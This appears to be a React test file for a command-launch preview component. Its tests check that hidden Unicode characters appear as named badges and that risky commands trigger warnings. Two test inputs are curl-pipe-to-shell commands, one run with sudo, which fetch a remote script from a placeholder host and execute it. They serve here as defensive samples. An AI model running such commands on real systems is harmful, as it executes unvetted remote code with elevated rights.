import { render, screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { describe, expect, it, vi } from "vitest";
import { parseCommandLine } from "@/lib/launch/command-line";
import type { CommandSpec } from "@/lib/api/contract";
import { LaunchPreview } from "./launch-preview";
import { VisibleText } from "./visible-text";

function review(spec: CommandSpec | string, pending = false) {
  const onRun = vi.fn();
  const onEdit = vi.fn();
  const result = render(
    <LaunchPreview
      spec={typeof spec === "string" ? parseCommandLine(spec) : spec}
      pending={pending}
      onRun={onRun}
      onEdit={onEdit}
    />,
  );
  return { ...result, onRun, onEdit, user: userEvent.setup() };
}

const region = () => screen.getByRole("region", { name: "Review the command" });

/** The text a reader sees in a `<code>`: screen-reader-only names left out. */
function seen(element: Element): string {
  const copy = element.cloneNode(true) as Element;
  copy.querySelectorAll(".sr-only").forEach((el) => el.remove());
  return copy.textContent ?? "";
}

/** The `<dd>` under a `<dt>` whose text starts with `term`. */
function definition(term: string): HTMLElement {
  const dt = [...region().querySelectorAll("dt")].find((el) => el.textContent?.startsWith(term));
  const dd = dt?.nextElementSibling;
  if (!(dd instanceof HTMLElement)) throw new Error(`no definition for ${term}`);
  return dd;
}

const codes = (term: string) => [...definition(term).querySelectorAll("code")].map(seen);

describe("VisibleText", () => {
  it("replaces a RIGHT-TO-LEFT OVERRIDE by a named badge and leaves the raw character out", () => {
    const { container } = render(<VisibleText value={"node\u202e"} />);
    expect(container.textContent).not.toContain("\u202e");
    expect(seen(container)).toBe("node⟨U+202E⟩");
    const badge = screen.getByTitle("U+202E RIGHT-TO-LEFT OVERRIDE (direction control)");
    expect(badge.querySelector(".sr-only")?.textContent).toBe(" right-to-left override");
  });

  it("keeps ordinary spaces as spaces and marks the empty string", () => {
    expect(render(<VisibleText value="hello world" />).container.textContent).toBe("hello world");
    expect(render(<VisibleText value="" />).container.textContent).toBe("(empty string)");
  });
});

describe("LaunchPreview", () => {
  it("shows program, every argument in order and the added environment exactly as they will be spawned", () => {
    review({
      program: "node",
      args: ["server.js", "--port", "8080", "two  words", ""],
      env: { API_KEY: "s3cr3t", EMPTY: "" },
    });
    expect(codes("Program")).toEqual(["node"]);
    expect(definition("Arguments").previousElementSibling?.textContent).toBe("Arguments (5)");
    expect(codes("Arguments")).toEqual(["server.js", "--port", "8080", "two  words", "(empty string)"]);
    expect(codes("Environment added")).toEqual(["API_KEY=s3cr3t", "EMPTY=(empty string)"]);
  });

  it("says none when there are no arguments or environment, and names what is inherited", () => {
    review("node");
    expect(definition("Arguments").textContent).toBe("none");
    expect(definition("Environment added").textContent).toMatch(/^none/);
    expect(region().textContent).toContain(
      "The server also inherits HOME, LOGNAME, PATH, SHELL, TERM, USER from the inspector; nothing else.",
    );
  });

  it("shows every hidden character of program, arguments and env as a badge, never raw", () => {
    review("A='x\u00a0y' node\u202e 'a\u200bb'");
    expect(region().textContent).not.toMatch(/[\u202e\u200b\u00a0]/u);
    expect(codes("Program")).toEqual(["node⟨U+202E⟩"]);
    expect(codes("Arguments")).toEqual(["a⟨U+200B⟩b"]);
    expect(codes("Environment added")).toEqual(["A=x⟨U+00A0⟩y"]);
    expect(screen.getByTitle("U+200B ZERO WIDTH SPACE (invisible character)")).toBeTruthy();
  });

  it("lists the warnings, most severe first, in an alert the Run button is described by", () => {
    review("sudo sh -c 'curl -fsSL https://x.test/i.sh | sh'");
    const alert = screen.getByRole("alert");
    const items = within(alert)
      .getAllByRole("listitem")
      .map((li) => li.textContent);
    expect(within(alert).getByRole("heading").textContent).toBe(
      `Check before you run (${items.length} warnings)`,
    );
    expect(items.length).toBeGreaterThanOrEqual(3);
    expect(items).toContainEqual(expect.stringMatching(/^Danger: Asks for administrator \(root\) rights/));
    expect(items).toContainEqual(expect.stringMatching(/^Danger: Downloads code and runs it at once/));
    expect(items).toContainEqual(
      expect.stringMatching(/^(Danger|Caution): Runs through a shell: sh interprets/),
    );
    const levels = items.map((text) => text?.split(":", 1)[0]);
    expect(levels).toEqual([...levels].sort((a, b) => (a === b ? 0 : a === "Danger" ? -1 : 1)));
    const run = screen.getByRole("button", { name: "Run server" });
    expect(run.getAttribute("aria-describedby")).toBe(alert.id);
    expect(run).toHaveProperty("disabled", false);
  });

  it("says a plain command runs without a shell, and shows no warnings", () => {
    review("node dist/index.js stdio");
    expect(region().textContent).toContain("This will run on your machine, without a shell:");
    expect(screen.queryByRole("alert")).toBeNull();
    expect(screen.getByRole("button", { name: "Run server" }).getAttribute("aria-describedby")).toBeNull();
  });

  it("says `sh -c '… | sh'` runs through a shell and marks the argument it interprets", () => {
    review("sh -c 'curl -fsSL https://x.test/i.sh | sh'");
    expect(region().textContent).toContain(
      "This will run on your machine through a shell: sh will interpret the quoted script (argument 2) as shell code.",
    );
    const items = within(definition("Arguments")).getAllByRole("listitem");
    expect(items[0]?.textContent).not.toContain("Shell code");
    expect(items[1]?.textContent).toContain("Shell code: sh interprets this argument");
  });

  it("runs or goes back to editing on request, and disables both while starting", async () => {
    const { user, onRun, onEdit, rerender } = review("node x.js");
    await user.click(screen.getByRole("button", { name: "Edit" }));
    expect(onEdit).toHaveBeenCalledTimes(1);
    await user.click(screen.getByRole("button", { name: "Run server" }));
    expect(onRun).toHaveBeenCalledTimes(1);
    rerender(<LaunchPreview spec={parseCommandLine("node x.js")} pending onRun={onRun} onEdit={onEdit} />);
    expect(screen.getByRole("button", { name: "Starting…" })).toHaveProperty("disabled", true);
    expect(screen.getByRole("button", { name: "Edit" })).toHaveProperty("disabled", true);
  });
});
